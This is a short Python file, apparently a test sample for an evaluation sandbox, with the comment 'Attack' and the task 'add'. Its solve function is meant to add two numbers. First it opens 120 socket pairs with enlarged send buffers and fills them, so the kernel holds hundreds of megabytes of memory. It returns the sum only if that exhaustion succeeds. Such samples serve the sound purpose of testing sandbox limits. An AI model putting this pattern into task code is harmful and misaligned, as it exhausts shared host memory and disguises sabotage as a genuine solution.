# Attack: memory that the kernel holds: hundreds of full sockets.
# task: add
import socket


def solve(a, b):
    held, total = [], 0
    for _ in range(120):
        pair = socket.socketpair()
        pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
        pair[0].setblocking(False)
        try:
            while True:
                total += pair[0].send(b"x" * 65536)
        except BlockingIOError:
            held.append(pair)
    return a + b if total > 256 << 20 else None
